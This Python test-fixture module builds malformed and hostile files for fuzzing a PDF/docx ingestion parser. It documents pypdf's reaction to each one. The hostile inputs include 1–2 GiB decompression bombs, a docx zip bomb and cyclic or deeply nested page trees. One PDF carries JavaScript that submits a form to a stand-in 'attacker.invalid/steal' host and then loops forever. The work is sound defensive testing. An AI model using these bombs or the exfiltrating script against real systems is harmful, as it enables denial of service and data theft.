"""Malformed and awkward inputs for the parser, and large files for the size limit.

What pypdf 7.1 does with each (checked by ``tests/corpus/test_pdfgen.py``):

=====================  ==================================================================
key                    behaviour of ``pypdf.PdfReader(path)`` (default ``strict=False``)
=====================  ==================================================================
corrupt                a %PDF- header then random bytes, no trailer. Logs "EOF marker not
                       found", then raises ``pypdf.errors.PdfStreamError`` ("Stream has
                       ended unexpectedly"), a subclass of ``PdfReadError``. strict=True:
                       ``PdfReadError`` ("EOF marker not found").
truncated              the first 60 % of a valid PDF (EOF marker and xref gone): same as
                       corrupt, ``PdfStreamError`` (strict: ``PdfReadError``).
encrypted_password     opens (``PdfReader`` silently tries the empty password and fails);
                       ``is_encrypted`` is True; touching ``pages`` or text raises
                       ``pypdf.errors.FileNotDecryptedError`` ("File has not been
                       decrypted"); ``decrypt("")`` returns ``PasswordType.NOT_DECRYPTED``
                       (0); ``decrypt("s3cret")`` returns ``PasswordType.USER_PASSWORD``
                       (1), the owner password ``OWNER_PASSWORD`` gives ``OWNER_PASSWORD``
                       (2). AES-256 (needs ``cryptography`` to decrypt, not to detect).
encrypted_empty        ``is_encrypted`` is True, but ``PdfReader(path)`` (password=None)
                       already decrypts with the empty user password, so pages and text are
                       readable at once; ``decrypt("")`` also returns
                       ``PasswordType.USER_PASSWORD``. An "owner password only" file, as many
                       permission-restricted PDFs are. RC4-128, which pypdf decrypts without
                       extra packages. A parser that rejects every ``is_encrypted`` file
                       rejects these readable ones too.
zero_byte              ``pypdf.errors.EmptyFileError`` ("Cannot read an empty file"), a
                       subclass of ``PdfReadError``, in both modes.
image_only             valid, 1 page, ``extract_text()`` == "" (vector shapes and one raster
                       image, no text operators): the "scanned document" case.
mislabelled            a PNG named ``.pdf``: logs "invalid pdf header", raises
                       ``PdfStreamError``. strict=True raises a bare ``UnicodeDecodeError``
                       (not a pypdf error!) while reading the header.
mislabelled_text       plain text named ``.pdf``: ``PdfStreamError``; strict=True:
                       ``PdfReadError`` ("PDF starts with 'Meeti', but '%PDF-' expected").
                       Sniff the magic bytes before parsing rather than trusting pypdf here.
wrong_xref             valid PDF whose ``startxref`` offset points into the middle of the
                       file: pypdf logs "incorrect startxref pointer(1)", rebuilds the
                       cross-reference table by scanning for objects, and reads every page
                       and all text. strict=True raises ``PdfReadError`` ("Broken xref
                       table").
=====================  ==================================================================

Catch ``pypdf.errors.PyPdfError`` (base of all the above) plus ``ValueError`` (for the strict
``UnicodeDecodeError``) at the parser's edge.

``write_hostile_inputs`` adds files built to exhaust a parser rather than merely confuse it,
hand-written PDF bytes that stay tiny on disk (checked by ``tests/ingest/test_malformed_pdfs.py``):

=====================  ==================================================================
key                    what it is, and what pypdf 7.1 does with it
=====================  ==================================================================
garbage_xref           a valid PDF whose xref table is overwritten with random bytes:
                       pypdf rebuilds the table by scanning for objects and reads it.
page_tree_loop         the page tree lists itself among its kids: ``PdfReadError``
                       ("Detected cyclic page references").
self_reference         the page tree object is a reference to itself: ``AttributeError``
                       from deep inside pypdf (not a pypdf error!).
deep_nesting           200,000 nested arrays in the catalog: ``PdfReadError``.
deep_page_tree         5,000 nested page-tree nodes: ``LimitReachedError`` (depth > 100).
huge_object_stream     the page tree lives in an object stream that declares 50 million
                       objects: ``PdfReadError`` ("Invalid offset ... in object stream").
object_stream_bomb     the page tree lives in an object stream that inflates to 1 GiB:
                       ``LimitReachedError`` (pypdf stops at 75 MB per stream).
decompression_bomb     a 2 MB page content stream that inflates to 2 GiB of spaces:
                       ``LimitReachedError`` while extracting text.
javascript             a text PDF with JavaScript in /OpenAction, a page /AA and the
                       /Names tree: reads normally; the script is never page text.
zero_pages             an empty page tree (/Count 0): opens, ``len(pages) == 0``.
many_pages             6,000 references to one empty page: opens, 6,000 pages, no text.
slow_layout            500 pages sharing one content stream of 20,000 text operators:
                       layout-mode extraction takes seconds per page (minutes in all)
                       while memory stays flat. Only a wall-clock limit stops it.
zip_bomb_docx          a .docx whose word/document.xml inflates to 1 GiB (1 MB on disk):
                       python-docx reads the whole part into memory.
=====================  ==================================================================
"""

from __future__ import annotations

import io
import random
import re
import struct
import zlib
from pathlib import Path

from .pdfgen import image_only_pdf, policy_document, write_pdf

__all__ = [
    "write_bad_inputs", "write_hostile_inputs", "write_large_pdf", "USER_PASSWORD", "OWNER_PASSWORD",
    "JAVASCRIPT_MARKER",
]

JAVASCRIPT_MARKER = "kbScriptMarker"  # in the JavaScript of ``javascript``, never in its page text
USER_PASSWORD = "s3cret"
OWNER_PASSWORD = "0wner-only"


def _small_valid_pdf(path: Path) -> Path:
    spec, _ = policy_document(7, pages=2, plant_pii=False)
    return write_pdf(spec, path)


def _encrypt(src: Path, dst: Path, user: str, owner: str, algorithm: str) -> Path:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(src))
    writer.encrypt(user_password=user, owner_password=owner, algorithm=algorithm)
    buf = io.BytesIO()
    writer.write(buf)
    dst.write_bytes(buf.getvalue())
    return dst


def write_bad_inputs(directory: Path) -> dict[str, Path]:
    """Write every bad input into ``directory``; returns ``{key: path}`` (keys above)."""
    d = Path(directory)
    d.mkdir(parents=True, exist_ok=True)
    rng = random.Random(1234)
    out: dict[str, Path] = {}

    valid = _small_valid_pdf(d / "_valid_source.pdf")
    data = valid.read_bytes()

    out["corrupt"] = d / "corrupt.pdf"
    out["corrupt"].write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + rng.randbytes(20_000))

    out["truncated"] = d / "truncated.pdf"
    out["truncated"].write_bytes(data[: int(len(data) * 0.6)])

    out["encrypted_password"] = _encrypt(valid, d / "encrypted_password.pdf", USER_PASSWORD,
                                         OWNER_PASSWORD, "AES-256")
    out["encrypted_empty"] = _encrypt(valid, d / "encrypted_empty.pdf", "", OWNER_PASSWORD,
                                      "RC4-128")

    out["zero_byte"] = d / "zero_byte.pdf"
    out["zero_byte"].write_bytes(b"")

    out["image_only"] = image_only_pdf(d / "image_only.pdf")

    out["mislabelled"] = d / "mislabelled.pdf"
    out["mislabelled"].write_bytes(_png_bytes())
    out["mislabelled_text"] = d / "mislabelled_text.pdf"
    out["mislabelled_text"].write_text(
        "Meeting notes, 3 March\n\nThis is a plain text file that was saved with a .pdf "
        "extension by mistake.\n", encoding="utf-8")

    out["wrong_xref"] = d / "wrong_xref.pdf"
    out["wrong_xref"].write_bytes(_corrupt_startxref(data))

    valid.unlink()
    return out


def _png_bytes() -> bytes:
    from PIL import Image

    img = Image.new("RGB", (64, 48), (200, 220, 240))
    buf = io.BytesIO()
    img.save(buf, format="PNG")
    return buf.getvalue()


def _corrupt_startxref(data: bytes) -> bytes:
    """Replace the number after the last ``startxref`` with an offset in the middle of the
    file (same number of digits would be nice but is not needed: the tail is rewritten)."""
    m = list(re.finditer(rb"startxref\s+(\d+)\s+%%EOF", data))[-1]
    wrong = len(data) // 2
    return data[: m.start(1)] + str(wrong).encode() + data[m.end(1):]


def write_large_pdf(path: Path, mb: float, *, seed: int = 0) -> Path:
    """A valid PDF of at least ``mb`` MiB: one page of text, then pages with incompressible
    random-noise images (about 1 MiB each). The size is checked after writing."""
    from PIL import Image
    from reportlab.lib.pagesizes import LETTER
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen.canvas import Canvas

    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    target = int(mb * 1024 * 1024)
    rng = random.Random(seed)
    side = 512
    raw_needed = int(target / 1.25 * 1.01) + 2048  # ASCII85 adds 25 %; small margin
    for _attempt in range(4):
        c = Canvas(str(path), pagesize=LETTER, invariant=1)
        c.setFont("Helvetica", 12)
        c.drawString(72, 720, "Large file test: pages of random image data follow.")
        c.showPage()
        remaining = raw_needed
        while remaining > 0:
            rows = min(side, -(-remaining // (side * 3)))
            img = Image.frombytes("RGB", (side, rows), rng.randbytes(side * rows * 3))
            c.drawImage(ImageReader(img), 72, 200, width=460, height=460 * rows / side)
            c.showPage()
            remaining -= side * rows * 3
        c.save()
        if path.stat().st_size >= target:
            break
        raw_needed += target - path.stat().st_size + 16 * 1024
    else:  # pragma: no cover
        raise RuntimeError(f"wrote {path.stat().st_size} bytes, wanted {target}")
    return path




# --------------------------------------------------------------------------------------
# Hostile inputs: hand-written PDF bytes
# --------------------------------------------------------------------------------------

_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_PAGE = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
         b"/Resources << /Font << /F1 5 0 R >> >> >>")
_ONE_PAGE = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def _pdf(objects: list[bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF of numbered objects (1, 2, ...; object 1 is the catalog) with a correct xref."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, trailer, xref))
    return out.getvalue()


def _stream(data: bytes, extra: bytes = b"", *, compress: bool = True) -> bytes:
    if compress:
        data = zlib.compress(data, 9)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(data), extra, data)


def _raw_stream(deflated: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d /Filter /FlateDecode%s >>\nstream\n%s\nendstream" % (len(deflated), extra, deflated)


def _text_ops(lines: list[str]) -> bytes:
    ops = [b"BT /F1 11 Tf 72 720 Td 14 TL"]
    for line in lines:
        escaped = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        ops.append(b"(%s) Tj T*" % escaped.encode("latin-1"))
    ops.append(b"ET")
    return b"\n".join(ops)


def _deflate_filler(prefix: bytes, filler: int, size: int, suffix: bytes = b"", *,
                    zip_entry: bool = False) -> tuple[bytes, int]:
    """Deflate ``prefix + bytes([filler]) * size + suffix`` in milliseconds, whatever ``size``:
    after a full flush the compressor forgets its history, so every further 1 MiB block of
    filler compresses to the same bytes and is repeated rather than compressed again.

    Returns a zlib stream (PDF's FlateDecode) and its Adler-32, or, for ``zip_entry``, raw
    deflate and the CRC-32 of the inflated data (which takes a pass over it: ~0.6 s/GiB)."""
    block = 1 << 20
    assert size % block == 0
    chunk = bytes([filler]) * block
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
    first = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    second = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    assert first == second, "zlib output is not periodic after a full flush"
    body = head + first * (size // block) + c.compress(suffix) + c.flush()
    if zip_entry:
        crc = zlib.crc32(prefix)
        for _ in range(size // block):
            crc = zlib.crc32(chunk, crc)
        return body, zlib.crc32(suffix, crc)
    adler = zlib.adler32(prefix)
    a, b = adler & 0xFFFF, adler >> 16
    b = (b + size * a + filler * size * (size + 1) // 2) % 65521  # the filler run, in closed form
    a = (a + filler * size) % 65521
    adler = zlib.adler32(suffix, (b << 16) | a)
    return b"\x78\xda" + body + adler.to_bytes(4, "big"), adler


_BRIEFING = [
    "Quarterly Safety Briefing",
    "All staff must complete the fire safety course before the end of the quarter.",
    "Emergency exits are on the north and south sides of every floor.",
    "Report any blocked exit to the facilities desk on extension 4410.",
    "First aid kits are checked on the first Monday of each month.",
]


def _javascript_pdf() -> bytes:
    script = (f"app.alert('{JAVASCRIPT_MARKER}'); this.submitForm('http://attacker.invalid/steal');"
              " while (true) {}").encode()
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript 7 0 R >> >>",
        _ONE_PAGE,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> /AA << /O 6 0 R >> >>",
        _stream(_text_ops(_BRIEFING)),
        _FONT,
        b"<< /Type /Action /S /JavaScript /JS 8 0 R >>",
        b"<< /Names [(startup) 6 0 R] >>",
        _stream(script),
    ])


def _xref_stream_pdf(objects: dict[int, bytes], compressed: dict[int, tuple[int, int]]) -> bytes:
    """A PDF 1.5 file with a cross-reference stream, so objects can live in object streams:
    ``compressed`` maps an object number to (object stream number, index)."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, objects[number]))
    size = max([*objects, *compressed]) + 2
    offsets[size - 1] = out.tell()
    rows = b"".join(
        struct.pack(">BIH", 2, *compressed[n]) if n in compressed
        else struct.pack(">BIH", 1, offsets[n], 0) if n in offsets
        else struct.pack(">BIH", 0, 0, 65535)
        for n in range(size)
    )
    xref = _stream(rows, b" /Type /XRef /W [1 4 2] /Size %d /Root 1 0 R" % size, compress=False)
    out.write(b"%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (size - 1, xref, offsets[size - 1]))
    return out.getvalue()


def _page_tree_in_object_stream(count: int, padding: int) -> bytes:
    header = b"2 0 "
    pages = _ONE_PAGE
    if padding:
        deflated, _ = _deflate_filler(header + pages, 0x20, padding)
        stm = _raw_stream(deflated, b" /Type /ObjStm /N %d /First %d" % (count, len(header)))
    else:
        stm = _stream(header + pages, b" /Type /ObjStm /N %d /First %d" % (count, len(header)))
    content = _stream(_text_ops(_BRIEFING[:2]))
    return _xref_stream_pdf({1: _CATALOG, 3: _PAGE, 4: content, 5: _FONT, 6: stm}, {2: (6, 0)})


def _garbage_xref(data: bytes, rng: random.Random) -> bytes:
    start = data.rindex(b"\nxref\n") + 1
    end = data.index(b"trailer", start)
    return data[:start] + rng.randbytes(end - start) + data[end:]


def _docx_zip_bomb(path: Path, inflated: int) -> Path:
    """A .docx whose word/document.xml inflates to ``inflated`` bytes, written as a zip by
    hand because ``zipfile`` would have to compress the whole gigabyte."""
    prefix = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
              b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
              b"<w:body><w:p><w:r><w:t>")
    suffix = b"</w:t></w:r></w:p></w:body></w:document>"
    bomb, crc = _deflate_filler(prefix, 0x20, inflated, suffix, zip_entry=True)
    small = {
        "[Content_Types].xml": (
            b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/content-types"><Default Extension="rels" ContentType="application/'
            b'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
            b'"application/xml"/><Override PartName="/word/document.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'),
        "_rels/.rels": (
            b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
            b'.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target='
            b'"word/document.xml"/></Relationships>'),
    }
    entries = [(name, zlib.compress(raw, 9)[2:-4], zlib.crc32(raw), len(raw)) for name, raw in small.items()]
    entries.append(("word/document.xml", bomb, crc, len(prefix) + inflated + len(suffix)))
    out = io.BytesIO()
    central = io.BytesIO()
    for name, deflated, crc32, size in entries:
        offset = out.tell()
        fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, crc32, len(deflated), size)
        out.write(b"PK\x03\x04" + fields + struct.pack("<HH", len(name), 0) + name.encode() + deflated)
        central.write(b"PK\x01\x02" + struct.pack("<H", 20) + fields
                      + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, offset) + name.encode())
    directory = central.getvalue()
    start = out.tell()
    out.write(directory)
    out.write(b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(directory), start, 0))
    path.write_bytes(out.getvalue())
    return path


def write_hostile_inputs(directory: Path) -> dict[str, Path]:
    """Write the hostile inputs (keys in the module docstring) into ``directory``. Fast (about a
    second) and small on disk (a few MB in all), however much they inflate."""
    d = Path(directory)
    d.mkdir(parents=True, exist_ok=True)
    rng = random.Random(4321)
    files: dict[str, bytes] = {}

    valid = _small_valid_pdf(d / "_valid_source.pdf")
    files["garbage_xref"] = _garbage_xref(valid.read_bytes(), rng)
    valid.unlink()

    content = _stream(_text_ops(_BRIEFING))
    files["page_tree_loop"] = _pdf([_CATALOG, b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>", _PAGE, content, _FONT])
    files["self_reference"] = _pdf([_CATALOG, b"2 0 R"])
    files["deep_nesting"] = _pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Nested " + b"[" * 200_000 + b"]" * 200_000 + b" >>",
        _ONE_PAGE, _PAGE, content, _FONT,
    ])
    depth = 5_000
    files["deep_page_tree"] = _pdf(
        [_CATALOG]
        + [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (n + 1) for n in range(2, depth + 2)]
        + [b"<< /Type /Page /MediaBox [0 0 612 792] /Contents %d 0 R /Resources << /Font << /F1 %d 0 R >> >> >>"
           % (depth + 3, depth + 4), content, _FONT]
    )
    files["huge_object_stream"] = _page_tree_in_object_stream(50_000_000, 0)
    files["object_stream_bomb"] = _page_tree_in_object_stream(1, 1 << 30)

    bomb, _ = _deflate_filler(b"BT /F1 11 Tf 72 720 Td (Boom) Tj ET\n", 0x20, 2 << 30)
    files["decompression_bomb"] = _pdf([_CATALOG, _ONE_PAGE, _PAGE, _raw_stream(bomb), _FONT])
    files["javascript"] = _javascript_pdf()
    files["zero_pages"] = _pdf([_CATALOG, b"<< /Type /Pages /Kids [] /Count 0 >>"])
    files["many_pages"] = _pdf([
        _CATALOG,
        b"<< /Type /Pages /Kids [" + b"3 0 R " * 6_000 + b"] /Count 6000 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    ])
    heavy = b"\n".join(b"BT /F1 9 Tf 1 0 0 1 %d %d Tm (w) Tj ET" % (40 + i % 500, 40 + i % 700) for i in range(20_000))
    files["slow_layout"] = _pdf([
        _CATALOG, b"<< /Type /Pages /Kids [" + b"3 0 R " * 500 + b"] /Count 500 >>", _PAGE, _stream(heavy), _FONT,
    ])

    out = {}
    for key, data in files.items():
        out[key] = d / f"{key}.pdf"
        out[key].write_bytes(data)
    out["zip_bomb_docx"] = _docx_zip_bomb(d / "zip_bomb.docx", 1 << 30)
    return out
